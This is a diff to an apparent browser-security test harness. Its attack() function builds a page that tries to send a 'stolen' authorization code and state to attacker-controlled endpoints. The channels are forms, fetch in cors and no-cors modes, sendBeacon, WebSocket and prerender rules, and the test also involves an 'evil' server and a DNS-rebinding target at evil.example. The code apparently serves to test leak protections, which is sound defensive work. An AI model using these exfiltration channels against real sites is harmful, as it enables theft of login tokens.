@@ -79,7 +79,8 @@ async function attack() {
     <object data="${own('object')}"></object>
     <form method=get action="${redirect.href}" target=sink><input name=code value=stolen>
     <input name=state value="${state}"><input name=via value=form></form>
-    <form method=post action="${own('post')}" target=sink></form><iframe name=sink></iframe>
+    <form method=post action="${own('post')}" target=sink><input name=code value=stolen>
+    <input name=state value="${state}"></form><iframe name=sink></iframe>
     <script type=speculationrules>{"prerender": [{"urls": ["${own('prerender')}", "/decoy"]}]}</script>`;
   // What Chromium says of a prerender it says to our own server too.
   const evil = createServer((request, response) => {
@@ -104,14 +105,16 @@ async function attack() {
     await page.evaluate((number) => document.forms[number].submit(), index);
     await until(() => answered(name));
   }
-  await page.evaluate(async (fetched, beacon, socket) => {
+  await page.evaluate(async (fetched, beacon, socket, fields) => {
+    const body = new URLSearchParams(fields);
     for (const mode of ['no-cors', 'cors']) {
       await fetch(`${fetched}-${mode}`, { mode }).catch(() => {});
+      await fetch(`${fetched}-post-${mode}`, { mode, method: 'POST', body }).catch(() => {});
     }
-    navigator.sendBeacon(beacon, 'x');
+    navigator.sendBeacon(beacon, body);
     // Over before anything else is tried: it tells nothing of its answer.
     await new Promise((done) => { new WebSocket(socket).onclose = done; });
-  }, own('fetch'), own('beacon'), own('websocket').replace('http:', 'ws:'));
+  }, own('fetch'), own('beacon'), own('websocket').replace('http:', 'ws:'), { code: 'stolen', state });
   await until(() => report.decoy !== undefined && report.tried.includes('beacon')
     && answered('prefetch') && answered('prerender'));
   const rebound = target(`http://evil.example:${redirect.port}`, 'rebinding');
